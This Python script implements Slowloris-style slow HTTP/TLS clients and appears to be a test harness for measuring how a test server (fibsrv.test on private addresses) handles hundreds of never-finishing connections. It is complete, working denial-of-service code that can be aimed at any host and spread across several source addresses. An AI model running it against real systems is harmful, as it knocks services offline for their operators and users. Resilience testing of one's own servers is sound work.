#!/usr/bin/env python3
"""Slowloris clients: they open many connections, send a byte a second, and never finish a request.

    slow_clients.py --count 400 --kind head --sources 10.77.0.111,10.77.0.112 10.77.0.10

prints the outcomes as JSON: how many were rejected before TLS, got a response with which status, were closed without one, or
were still open at the end; and the longest lifetime.

Kinds: `head` (endless request head), `body` (incomplete request body), `silent` (idle after the TLS handshake), `handshake`
(no TLS handshake).
"""

import argparse
import asyncio
import collections
import json
import resource
import socket
import ssl
import time

BEGINNING = {
    "head": b"GET /api/fibonacci/20 HTTP/1.1\r\nHost: fibsrv.test\r\nX-Slow: ",
    "body": b"POST /api/fibonacci/20 HTTP/1.1\r\nHost: fibsrv.test\r\nContent-Length: 1000\r\n\r\n",
    "silent": b"",
    "handshake": b"",
}


async def run_client(kind, host, port, source, end):
    """Runs one connection and returns its outcome and lifetime in seconds."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    connection = socket.socket()
    connection.setblocking(False)
    if source:
        connection.bind((source, 0))
    began = time.monotonic()
    try:
        await asyncio.wait_for(asyncio.get_running_loop().sock_connect(connection, (host, port)), 10)
        secure = {} if kind == "handshake" else {"ssl": context, "server_hostname": "fibsrv.test"}
        reader, writer = await asyncio.wait_for(asyncio.open_connection(sock=connection, **secure), 10)
    except (OSError, asyncio.TimeoutError):
        return "rejected", time.monotonic() - began
    began = time.monotonic()
    response = b""
    try:
        writer.write(BEGINNING[kind])
        while not response and time.monotonic() < end:
            try:
                response = await asyncio.wait_for(reader.read(200), 1.0)
                if not response:
                    # A rejected connection looks like this too if the TLS handshake was fast.
                    return "closed", time.monotonic() - began
            except asyncio.TimeoutError:
                writer.write(b"x" if kind in ("head", "body") else b"")
    except OSError:
        return "closed", time.monotonic() - began
    finally:
        writer.transport.abort()
    return (f"status {response.split()[1].decode()}" if response else "open"), time.monotonic() - began


async def attack(options):
    sources = options.sources.split(",") if options.sources else [None]
    end = time.monotonic() + options.seconds
    outcomes = await asyncio.gather(*(
        run_client(options.kind, options.address, options.port, sources[n % len(sources)], end)
        for n in range(options.count)))
    counts = collections.Counter(outcome for outcome, _ in outcomes)
    return {"counts": counts, "longest": round(max(seconds for _, seconds in outcomes), 2)}


def main():
    options = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    options.add_argument("address")
    options.add_argument("--port", type=int, default=443)
    options.add_argument("--kind", choices=BEGINNING, default="head")
    options.add_argument("--count", type=int, default=100)
    options.add_argument("--seconds", type=float, default=20.0, help="time limit (20)")
    options.add_argument("--sources", metavar="ADDRESSES", help="source addresses, used round robin")
    options = options.parse_args()
    descriptors = options.count + 100
    if resource.getrlimit(resource.RLIMIT_NOFILE)[0] < descriptors:
        resource.setrlimit(resource.RLIMIT_NOFILE, (descriptors, max(descriptors, resource.getrlimit(resource.RLIMIT_NOFILE)[1])))
    print(json.dumps(asyncio.run(attack(options))))


if __name__ == "__main__":
    main()
